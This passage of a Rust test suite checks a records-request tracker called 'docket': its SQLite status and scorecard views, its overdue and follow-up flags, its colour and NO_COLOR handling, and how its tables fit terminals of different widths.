        st.query_map([], |r| (0..n).map(|i| r.get(i)).collect())
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    use rusqlite::types::Value as V;
    let text = |s: &str| V::Text(s.to_string());
    let int = |i: i64| V::Integer(i);

    // request_status: one row per request, agency and state joined, the flag for today.
    let status = rows(
        "SELECT id, agency, agency_name, state, status, filed_on, due_on, due_clock, flag \
         FROM request_status ORDER BY id",
    );
    assert_eq!(status.len(), 7);
    let flag_of: BTreeMap<String, V> = status
        .iter()
        .map(|r| (format!("{:?}", r[0]), r[8].clone()))
        .collect();
    let flag = |id: &str| flag_of[&format!("Integer({id})")].clone();
    assert_eq!(flag(&a), text("overdue"));
    assert_eq!(flag(&b), V::Null);
    assert_eq!(flag(&c), V::Null);
    assert_eq!(flag(&d), text("follow-up"));
    assert_eq!(flag(&e), V::Null);
    assert_eq!(flag(&f), V::Null);
    // A reply to read does not hide a missed clock: G is late first, and waits for review too.
    assert_eq!(flag(&g), text("overdue"));
    let g_flags: String = conn
        .query_row(
            "SELECT flags FROM request_status WHERE id = ?1",
            [g.parse::<i64>().unwrap()],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(g_flags, "overdue,needs-review");
    let first = &status[0];
    assert_eq!(
        first[1..8],
        [
            text("bergen-so-nj"),
            text("Bergen County Sheriff's Office"),
            text("NJ"),
            text("filed"),
            text("2020-03-02"),
            text("2020-03-11"),
            text("response"),
        ]
    );
    let late: i64 = conn
        .query_row(
            "SELECT calendar_days_late FROM request_status WHERE id = ?1",
            [a.parse::<i64>().unwrap()],
            |r| r.get(0),
        )
        .unwrap();
    assert!(late > 6 * 365, "{late}");

    // overdue_requests: statutory and follow-up lateness, the oldest due date first, whatever
    // else is true of the request (G has a reply nobody read).
    let overdue = rows("SELECT id, flag, due_on FROM overdue_requests");
    assert_eq!(
        overdue,
        [
            vec![int(a.parse().unwrap()), text("overdue"), text("2020-03-11")],
            vec![int(g.parse().unwrap()), text("overdue"), text("2020-03-11")],
            vec![
                int(d.parse().unwrap()),
                text("follow-up"),
                text("2020-03-16")
            ],
        ]
    );

    // agency_scorecard: one row per agency written to.
    let card = rows(
        "SELECT agency, state, requests, filed, open, completed, denied, overdue_now, \
         avg_first_response_days, on_time_share, fees_requested, fees_paid \
         FROM agency_scorecard ORDER BY agency",
    );
    assert_eq!(
        card,
        [
            // Bergen: A overdue, B running, C completed on time after a fee. First response:
            // C only (2 bd). On time: C yes, A no (overdue now), B undecided -> 1 of 2.
            vec![
                text("bergen-so-nj"),
                text("NJ"),
                int(3),
                int(3),
                int(2),
                int(1),
                int(0),
                int(1),
                V::Real(2.0),
                V::Real(0.5),
                V::Real(45.5),
                V::Real(45.5),
            ],
            // Essex: F denied on time (3 bd), G answered by a reply (1 bd) but late, and still
            // overdue now (a reply is not an answer): average first response (3 + 1) / 2 = 2,
            // on time 1 of 2.
            vec![
                text("essex-so-nj"),
                text("NJ"),
                int(2),
                int(2),
                int(1),
                int(0),
                int(1),
                int(1),
                V::Real(2.0),
                V::Real(0.5),
                V::Real(0.0),
                V::Real(0.0),
            ],
            // Wake: D past its follow-up target (not a legal deadline: not overdue, no
            // on-time share), E a draft.
            vec![
                text("wake-so-nc"),
                text("NC"),
                int(2),
                int(1),
                int(1),
                int(0),
                int(0),
                int(0),
                V::Null,
                V::Null,
                V::Real(0.0),
                V::Real(0.0),
            ],
        ]
    );
    // The view agrees with `docket stats --by agency` on what both can say.
    let stats = env
        .run(&[
            "--today",
            "2026-11-20",
            "stats",
            "--by",
            "agency",
            "--format",
            "json",
        ])
        .json();
    for row in &card {
        let V::Text(slug) = &row[0] else { panic!() };
        let s = stats
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["group"] == slug.as_str())
            .unwrap();
        for (i, key) in [
            (2, "requests"),
            (3, "filed"),
            (4, "open"),
            (5, "completed"),
            (6, "denied"),
            (7, "overdue_now"),
        ] {
            assert_eq!(row[i], int(s[key].as_i64().unwrap()), "{slug} {key}");
        }
    }
}

// ---- terminal tables -------------------------------------------------------------------------

/// The colour an SGR sequence at the start of a styled cell sets, if red or yellow: the 16
/// basic colours (31/33, bright 91/93) or their 256-colour indexes (1/9, 3/11).
fn colours(line: &str) -> BTreeSet<&'static str> {
    let mut out = BTreeSet::new();
    for (code, name) in [
        ("\u{1b}[31m", "red"),
        ("\u{1b}[91m", "red"),
        ("\u{1b}[38;5;1m", "red"),
        ("\u{1b}[38;5;9m", "red"),
        ("\u{1b}[33m", "yellow"),
        ("\u{1b}[93m", "yellow"),
        ("\u{1b}[38;5;3m", "yellow"),
        ("\u{1b}[38;5;11m", "yellow"),
    ] {
        if line.contains(code) {
            out.insert(name);
        }
    }
    out
}

const BOX: &[char] = &['│', '─', '┆', '╭', '╰', '═', '┼', '╪', '┬', '┴'];

#[test]
fn tables_colour_flagged_rows_only_when_asked_and_count_flags() {
    let env = Env::new();
    let s = sample(&env);
    let row_of = |text: &str, id: &str| -> String {
        text.lines()
            .find(|l| {
                let plain: String = strip_ansi(l);
                plain.split_whitespace().next() == Some(id)
            })
            .unwrap_or_else(|| panic!("no row {id}: {text}"))
            .to_string()
    };
    // --color always on a pipe: colour, but no box drawing (not a terminal).
    let mut c = env.cmd();
    c.env_remove("NO_COLOR").args(["--color", "always", "list"]);
    let coloured = to_run(c.output().unwrap()).ok().to_string();
    assert_eq!(
        colours(&row_of(&coloured, &s.overdue)),
        BTreeSet::from(["red"])
    );
    assert_eq!(
        colours(&row_of(&coloured, &s.followup)),
        BTreeSet::from(["yellow"])
    );
    for quiet in [&s.hostile, &s.completed, &s.draft] {
        assert!(colours(&row_of(&coloured, quiet)).is_empty(), "{coloured}");
    }
    assert!(!strip_ansi(&coloured).contains(BOX), "{coloured}");
    // The footer counts rows by flag.
    assert_eq!(
        strip_ansi(&coloured).lines().last(),
        Some("5 requests: 1 follow-up, 1 overdue")
    );

    // NO_COLOR, --color never, or not a terminal: no escape codes, no box drawing.
    let plain_runs: Vec<(&str, Run)> = vec![
        ("NO_COLOR list", env.run(&["list"])),
        ("NO_COLOR overdue", env.run(&["overdue"])),
        ("NO_COLOR stats", env.run(&["stats"])),
        ("NO_COLOR agency list", env.run(&["agency", "list"])),
        ("--color never", {
            let mut c = env.cmd();
            c.env_remove("NO_COLOR").args(["--color", "never", "list"]);
            to_run(c.output().unwrap())
        }),
        ("auto, piped", {
            let mut c = env.cmd();
            c.env_remove("NO_COLOR").args(["list"]);
            to_run(c.output().unwrap())
        }),
    ];
    for (what, r) in &plain_runs {
        let out = r.ok();
        assert!(!out.contains('\u{1b}'), "{what}: {out}");
        assert!(!out.contains(BOX), "{what}: {out}");
    }
    // Dates and titles whole when not a terminal (nothing to fit).
    let list = plain_runs[0].1.ok();
    assert!(row_of(list, &s.hostile).contains(FORMULA_TITLE), "{list}");
    assert!(
        row_of(list, &s.overdue).contains("2026-10-01  2026-10-13"),
        "{list}"
    );
    let overdue = plain_runs[1].1.ok();
    assert!(
        overdue.contains("2 requests: 1 follow-up, 1 overdue"),
        "{overdue}"
    );
    let agencies = plain_runs[3].1.ok();
    assert!(
        // Five added, and the built-in federal offices.
        agencies
            .lines()
            .last()
            .unwrap()
            .contains(&format!("{} agencies", 5 + BUILTIN_AGENCIES)),
        "{agencies}"
    );
}

fn strip_ansi(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' {
            for d in chars.by_ref() {
                if d.is_ascii_alphabetic() {
                    break;
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Runs `docket ARGS` on a pseudo-terminal of `columns` columns through util-linux `script`,
/// or `None` (with a message) where that is not available.
fn on_terminal(
    env: &Env,
    columns: u16,
    extra_env: &[(&str, &str)],
    args: &[&str],
) -> Option<String> {
    let version = Command::new("script").arg("--version").output().ok()?;
    if !String::from_utf8_lossy(&version.stdout).contains("util-linux") {
        eprintln!("skipped: util-linux `script` is not available to give docket a terminal");
        return None;
    }
    let quote = |a: &str| format!("'{}'", a.replace('\'', "'\\''"));
    let mut line = quote(env!("CARGO_BIN_EXE_docket"));
    for a in args {
        line.push(' ');
        line.push_str(&quote(a));
    }
    let mut c = Command::new("script");
    c.env_clear();
    for (k, v) in env.cmd().get_envs() {
        if let Some(v) = v {
            c.env(k, v);
        }
    }
    c.env_remove("NO_COLOR")
        .env("COLUMNS", columns.to_string())
        .env("TERM", "xterm-256color")
        .current_dir(env.path())
        .args(["-q", "-e", "-c", &line, "/dev/null"]);
    for (k, v) in extra_env {
        c.env(k, v);
    }
    let r = to_run(c.output().expect("run script"));
    Some(r.ok().replace("\r\n", "\n"))
}

#[test]
fn on_a_terminal_tables_fit_the_width_shortening_titles_never_dates() {
    let env = Env::new();
    let s = sample(&env);
    let long = env.agency("Harris County Sheriff's Office", "TX");
    let long_id = draft_titled(
        &env,
        &long,
        "Jail booking logs, detainer requests and 287(g) task force reports since January 2025",
    );
    let Some(wide) = on_terminal(&env, 100, &[], &["list"]) else {
        return;
    };
    let plain = strip_ansi(&wide);
    // Box drawing and colour on a terminal; every line within 100 columns.
    assert!(plain.contains('╭') && plain.contains('│'), "{plain}");
    for l in plain.lines() {
        assert!(
            l.chars().count() <= 100,
            "{} columns: {l}",
            l.chars().count()
        );
    }
    // The line of request `id`, as printed (colour codes included).
    let row = |text: &str, id: &str| -> String {
        text.lines()
            .find(|l| {
                strip_ansi(l)
                    .trim_start_matches(['│', ' '])
                    .split_whitespace()
                    .next()
                    == Some(id)
            })
            .unwrap_or_else(|| panic!("no row {id}: {text}"))
            .to_string()
    };
    assert_eq!(colours(&row(&wide, &s.overdue)), BTreeSet::from(["red"]));
    assert_eq!(
        colours(&row(&wide, &s.followup)),
        BTreeSet::from(["yellow"])
    );
    let long_row = strip_ansi(&row(&wide, &long_id));
    assert!(
        long_row.contains("Jail booking") && long_row.contains('…'),
        "{long_row}"
    );
    assert!(!long_row.contains("January 2025"), "{long_row}");
    assert!(strip_ansi(&row(&wide, &s.overdue)).contains("2026-10-01 ┆ 2026-10-13"));

    // 60 columns cannot hold the dates, ids and codes, which are never cut: titles shrink to
    // a few characters, each request stays on one line, and dates stay whole.
    let narrow = strip_ansi(&on_terminal(&env, 60, &[], &["list"]).unwrap());
    let body: Vec<&str> = narrow
        .lines()
        .filter(|l| l.starts_with('│') && !l.contains("AGENCY"))
        .collect();
    assert_eq!(body.len(), 6, "one line per request: {narrow}");
    assert!(row(&narrow, &long_id).contains("Jail bo…"), "{narrow}");
    assert!(
        row(&narrow, &s.overdue).contains("2026-10-01 ┆ 2026-10-13"),
        "{narrow}"
    );

    // NO_COLOR on a terminal: plain text, still fitted.
    let no_colour = on_terminal(&env, 100, &[("NO_COLOR", "1")], &["list"]).unwrap();
    assert!(!no_colour.contains('\u{1b}'), "{no_colour}");
    assert!(!no_colour.contains(BOX), "{no_colour}");
    assert!(row(&no_colour, &long_id).contains('…'), "{no_colour}");
    let never = on_terminal(&env, 100, &[], &["--color", "never", "list"]).unwrap();
    assert!(!never.contains('\u{1b}') && !never.contains(BOX), "{never}");
}
